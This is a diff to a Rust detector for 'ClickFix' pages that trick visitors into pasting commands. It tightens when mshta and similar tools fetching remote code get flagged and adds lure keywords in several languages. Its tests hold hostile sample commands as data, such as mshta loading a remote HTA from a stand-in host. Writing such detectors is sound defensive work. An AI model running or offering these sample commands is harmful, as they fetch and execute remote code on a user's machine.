@@ -2360,7 +2360,8 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
     // another site is ClickFix on its own evidence (review 40 R40-H2). A vendor's terse "Deploy
     // agent" page says what it copies: no check word (review 40 CF40-M1).
     // (mshta, regsvr32 or a script host fetching from the internet: no vendor's page copies
-    // those, so they need no check word: review 41 R41-H2's image-only mshta.)
+    // those, so a bare "verify" or "check" word is enough: review 41 R41-H2's image-only mshta;
+    // an IT "Tools" page's HTA from an https host stays silent.)
     let lolbin = command.shapes.iter().any(|s| {
         matches!(
             s,
@@ -2381,7 +2382,6 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
             || command.runs_on(Platform::Unix)
             || lolbin)
         && (told
-            || lolbin
             || verify > 0.0
             || !page.flat.bytes().any(|b| b.is_ascii_alphanumeric() || b > 127)
             || has_any(
@@ -2389,8 +2389,9 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
                 "moment captcha robot human humain humano umano mensch checking お待ち робот",
             )
             // (A device "verification" page of an MDM may copy its agent from a CDN over https:
-            // the bare word only with a bare IP or plain http.)
-            || fetch > 0 && has_any(&page.flat, "verif vérif prüf 確認 провер"));
+            // the bare word only with a bare IP or plain http, or for mshta and the like, which
+            // no vendor copies.)
+            || (fetch > 0 || lolbin) && has_any(&page.flat, "verif vérif prüf 確認 провер 확인 验证"));
     let unseen = !typed
         && !page.cut
         && (fetch > 0 || command.hides_script() && command.https_sites.is_empty() || terse)
@@ -2614,7 +2615,7 @@ mod tests {
         for clip in [
             "pip install -i http://localhost:3141/root/dev/+simple/ --trusted-host localhost lib",
             "pip install --index-url http://10.20.30.40/simple --trusted-host 10.20.30.40 tools",
-            "uv pip install --index-url http://192.168.1.20:8080/simple tools",
+            "uv pip install --index-url http://192.168.7.31:8080/simple tools",
             "pip3 install lib --index-url https://download.ml.example/whl/cu121",
         ] {
             assert!(shapes_of(clip).is_empty(), "{clip}");
@@ -2643,8 +2644,9 @@ mod tests {
             &["Install the CLI", "Open a terminal and paste the command."],
             own
         ));
-        // mshta of a remote HTA from a page of a few words (steps in a picture): no check word
-        // needed, whatever the language. From the page's own site: not so.
+        // mshta of a remote HTA from a page of a few words (steps in a picture): a bare
+        // "verify" or "check" word is enough, over https too. From the page's own site, or on a
+        // page with no such word: not so.
         let hta = "mshta https://relay.test/v.hta";
         assert!(on(
             "https://static.pages.example/",
@@ -2657,6 +2659,7 @@ mod tests {
             &["Launcher", "Copy"],
             "mshta https://tools.helpdesk.example/launch.hta"
         ));
+        assert!(!on("https://it.example/", &["Launcher", "Copy"], hta));
     }
 
     #[test]
